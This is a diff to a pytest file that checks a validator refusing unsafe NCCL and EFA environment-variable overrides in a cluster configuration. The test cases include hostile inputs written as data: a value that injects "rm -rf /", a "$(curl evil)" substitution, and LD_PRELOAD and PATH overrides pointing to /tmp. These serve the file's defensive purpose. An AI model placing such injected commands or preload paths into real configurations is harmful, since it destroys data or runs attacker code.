@@ -125,17 +125,26 @@ def test_mps_thread_percentage_without_mps_is_refused():
     ("NCCL_SOCKET_IFNAME", "eth0'; rm -rf /", "node.nccl.env.NCCL_SOCKET_IFNAME"),
     ("NCCL_IB_HCA", "$(curl evil)", "node.nccl.env.NCCL_IB_HCA"),
     ("NCCL_IB_HCA", "", "node.nccl.env.NCCL_IB_HCA"),
+    ("LD_PRELOAD", "/tmp/x.so", "node.nccl.env.LD_PRELOAD"),
+    ("PATH", "/tmp", "node.nccl.env.PATH"),
+    ("RDMAV_FORK_SAFE", "1", "node.nccl.env.RDMAV_FORK_SAFE"),
 ])
 def test_unsafe_nccl_overrides_are_refused(name, value, path):
     assert [p for p, _ in problems(aws_selection(node={"nccl": {"env": {name: value}}}))] == [path]
 
 
 @pytest.mark.parametrize("name", ["FI_PROVIDER", "FI_EFA_USE_DEVICE_RDMA", "FI_EFA_FORK_SAFE",
-                                  "FI_EFA_SET_CUDA_SYNC_MEMOPS", "NCCL_PROTO", "RDMAV_FORK_SAFE"])
+                                  "FI_EFA_SET_CUDA_SYNC_MEMOPS", "NCCL_PROTO"])
 def test_obsolete_efa_variables_are_refused_on_efa(name):
     selection = aws_selection(node={"nccl": {"env": {name: "1"}}})
     assert selection.fabric == "efa" and problems(selection) == [(f"node.nccl.env.{name}", name)]
     assert "obsolete for EFA" in messages(selection)[0]
+
+
+def test_communication_variables_of_every_documented_prefix_pass():
+    env = {"NCCL_IB_HCA": "rdmap", "FI_EFA_USE_HUGE_PAGE": "0", "OFI_NCCL_PROTOCOL": "RDMA", "UCX_TLS": "tcp",
+           "TORCH_NCCL_ASYNC_ERROR_HANDLING": "1", "CUDA_DEVICE_ORDER": "PCI_BUS_ID"}
+    assert problems(aws_selection(node={"nccl": {"env": env}})) == []
 
 
 def test_obsolete_efa_names_are_allowed_on_other_fabrics():
